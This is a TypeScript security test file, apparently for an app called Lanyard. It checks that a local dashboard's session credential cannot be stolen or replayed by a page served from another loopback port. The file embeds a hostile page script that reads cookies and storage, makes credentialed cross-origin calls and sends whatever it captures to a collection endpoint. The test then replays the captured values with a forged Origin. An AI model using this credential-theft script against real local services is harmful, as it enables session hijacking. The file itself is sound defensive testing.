/**
 * The dashboard credential and other servers on 127.0.0.1. Cookies are not isolated by port and SameSite treats all of
 * loopback as one site, so a dashboard cookie would be sent to every local dev server (or another user's listener) on
 * any port, which could replay it with a forged Origin from outside a browser. The dashboard's session is held by the
 * page itself (sessionStorage of its exact origin) and sent as a header, only with the page's Origin.
 *
 * In Chromium (playwright-core, /usr/bin/chromium): the user opens the one-time link; then, in the same browser, a
 * page served by another server on another loopback port tries everything it can to get or use the credential. That
 * server records every request it receives; the test then replays whatever it captured, as curl would.
 *
 * Needs the built renderer (`npm run -s build`).
 */
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, rm } from 'node:fs/promises';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { chromium, type Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Broker, type RunningGateway } from '../../electron/broker/broker';
import { unmanaged } from '../../electron/broker/config/managed';
import { MemorySecretStore } from '../../electron/broker/secrets/memory-store';

const root = path.resolve(import.meta.dirname, '../..');
const RENDERER_DIR = path.join(root, 'out/renderer');
const CHROMIUM = '/usr/bin/chromium';
const CHROMIUM_ARGS = [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--disable-background-networking',
  '--no-first-run',
  '--disable-sync',
];

let tempRoot: string;
let broker: Broker;
let gateway: RunningGateway;
let dashboardOrigin: string;
let evil: Server;
let evilOrigin: string;
let browser: Browser;
/** Every request the other server received: path and headers. */
const received: Array<{ url: string; headers: IncomingHttpHeaders; body: string }> = [];
/** Every Set-Cookie the dashboard's origin ever sent to the browser. */
const setCookies: string[] = [];

/** The other local server's page: it tries to read, use and exfiltrate the dashboard's credential. */
const attackPage = (target: string) => `<!doctype html><meta charset="utf-8"><title>dev server</title><script>
(async () => {
  const report = {};
  const T = ${JSON.stringify(target)};
  report.documentCookie = document.cookie;
  report.ownSessionStorage = JSON.stringify(Object.assign({}, sessionStorage));
  for (const path of ['/api/status', '/api/listServers']) {
    try {
      const r = await fetch(T + path, { method: 'POST', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: '{}' });
      report[path] = r.status + ' ' + (await r.text()).slice(0, 200);
    } catch (e) { report[path] = 'blocked: ' + e.message; }
  }
  try {
    const r = await fetch(T + '/dashboard/ticket', { method: 'POST', credentials: 'include' });
    report.ticket = r.status + ' ' + (await r.text()).slice(0, 200);
  } catch (e) { report.ticket = 'blocked: ' + e.message; }
  report.events = await new Promise((resolve) => {
    const es = new EventSource(T + '/api/events', { withCredentials: true });
    es.onopen = () => { es.close(); resolve('open'); };
    es.onerror = () => { es.close(); resolve('error'); };
    setTimeout(() => resolve('timeout'), 3000);
  });
  try {
    const w = window.open(T + '/');
    await new Promise((r) => setTimeout(r, 1500));
    report.openedStorage = w && w.sessionStorage ? JSON.stringify(Object.assign({}, w.sessionStorage)) : 'no handle';
  } catch (e) { report.openedStorage = 'blocked: ' + e.name; }
  // Whatever this page got, and whatever cookies the browser attaches to a request to this port, goes home.
  await fetch('/collect', { method: 'POST', credentials: 'include', body: JSON.stringify(report) });
  document.title = 'done';
})();
</script>`;

beforeAll(async () => {
  if (!existsSync(path.join(RENDERER_DIR, 'index.html'))) throw new Error('out/renderer is missing: run `npm run -s build` first');
  tempRoot = await mkdtemp(path.join(process.env.LANYARD_TEST_ROOT ?? tmpdir(), 'lanyard-dash-cred-'));
  const userHome = path.join(tempRoot, 'user');
  await mkdir(userHome, { recursive: true });
  broker = await Broker.create({
    version: 'test',
    home: path.join(tempRoot, 'lanyard'),
    secrets: new MemorySecretStore(),
    managed: unmanaged,
    openUrl: () => undefined,
    ide: { machine: { homedir: userHome, env: {}, platform: 'linux' } },
  });
  gateway = await broker.startGateway({ port: 0, dashboard: { rendererDir: RENDERER_DIR } });
  dashboardOrigin = gateway.server.url;
  evil = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      received.push({ url: req.url ?? '', headers: req.headers, body: Buffer.concat(chunks).toString('utf8') });
      if (req.url === '/') {
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(attackPage(dashboardOrigin));
        return;
      }
      res.writeHead(204).end();
    });
  });
  await new Promise<void>((r) => evil.listen(0, '127.0.0.1', r));
  evilOrigin = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
  browser = await chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_ARGS });
}, 60_000);

afterAll(async () => {
  await browser?.close().catch(() => undefined);
  await new Promise((r) => evil?.close(r));
  await gateway?.stop();
  await broker?.close();
  if (tempRoot) await rm(tempRoot, { recursive: true, force: true });
});

describe('a page on another loopback port, in the same browser as the dashboard', { timeout: 60_000 }, () => {
  it('gets nothing of the dashboard credential, and nothing it captured works when replayed', async () => {
    const context = await browser.newContext();
    context.on('response', (response) => {
      if (!response.url().startsWith(dashboardOrigin)) return;
      void response.allHeaders().then((h) => {
        if (h['set-cookie'] !== undefined) setCookies.push(h['set-cookie']);
      });
    });
    // The user opens the dashboard through its one-time link, and the page is signed in (its status call answered).
    const signedIn = new Promise<void>((resolve) =>
      context.on('response', (r) => {
        if (r.url() === `${dashboardOrigin}/api/status` && r.status() === 200) resolve();
      }),
    );
    const dashboard = await context.newPage();
    await dashboard.goto(gateway.dashboard!.oneTimeLink());
    await signedIn;
    const session = String(await dashboard.evaluate("sessionStorage.getItem('lanyard.dashboard.session') ?? 'none'"));

    // The other server's page runs in the same browser.
    const attacker = await context.newPage();
    await attacker.goto(`${evilOrigin}/`);
    await expect.poll(() => attacker.title(), { timeout: 20_000 }).toBe('done');

    const collect = received.find((r) => r.url === '/collect');
    expect(collect).toBeDefined();
    const report = JSON.parse(collect!.body) as Record<string, string>;
    // The browser attached no dashboard cookie to any request to the other port, and the page could read none.
    for (const r of received) expect(r.headers.cookie, `cookie sent to ${r.url}`).toBeUndefined();
    expect(report.documentCookie).toBe('');
    expect(report.ownSessionStorage).toBe('{}');
    // Credentialed cross-origin calls get nothing (no CORS headers, no cookie to ride on).
    expect(report['/api/status']).toMatch(/^blocked/);
    expect(report['/api/listServers']).toMatch(/^blocked/);
    expect(report.ticket).toMatch(/^blocked/);
    expect(report.events).toBe('error');
    // The dashboard's own tab is out of reach (COOP severs the opener; cross-origin storage is never readable).
    expect(report.openedStorage).not.toContain(session);
    expect(JSON.stringify(report)).not.toContain(session);

    // Replay from outside a browser everything the other server captured, with the dashboard's Origin forged.
    const captured = received.flatMap((r) => [r.headers.cookie ?? '', r.body]).filter(Boolean);
    for (const value of captured) {
      const replay = await fetch(`${dashboardOrigin}/api/status`, {
        method: 'POST',
        headers: { cookie: value, origin: dashboardOrigin, 'content-type': 'application/json' },
        body: '{}',
      });
      expect(replay.status).toBe(401);
    }
    // The dashboard never set a cookie, and the browser holds none for 127.0.0.1.
    expect(setCookies).toEqual([]);
    expect(await context.cookies()).toEqual([]);
    await context.close();
  });

  it('a session is accepted only with the page’s own Origin, even outside a browser', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(gateway.dashboard!.oneTimeLink());
    await expect
      .poll(() => page.evaluate("sessionStorage.getItem('lanyard.dashboard.session')"), { timeout: 20_000 })
      .toMatch(/^[A-Za-z0-9_-]{43}$/);
    const session = (await page.evaluate("sessionStorage.getItem('lanyard.dashboard.session')")) as string;
    const own = await fetch(`${dashboardOrigin}/api/status`, {
      method: 'POST',
      headers: { 'x-lanyard-session': session, origin: dashboardOrigin, 'content-type': 'application/json' },
      body: '{}',
    });
    expect(own.status).toBe(200);
    for (const origin of [evilOrigin, undefined]) {
      const r = await fetch(`${dashboardOrigin}/api/status`, {
        method: 'POST',
        headers: { 'x-lanyard-session': session, ...(origin ? { origin } : {}), 'content-type': 'application/json' },
        body: '{}',
      });
      expect(r.status).toBe(origin === evilOrigin ? 403 : 401);
    }
    // The link is spent: opened again (another tab, no session of its own), it gets nothing.
    const second = await context.newPage();
    await second.goto(gateway.dashboard!.oneTimeLink().replace(/#code=.*/, '#code=' + 'x'.repeat(43)));
    await second.waitForTimeout(500);
    expect(await second.evaluate("sessionStorage.getItem('lanyard.dashboard.session')")).toBeNull();
    await context.close();
  });
});
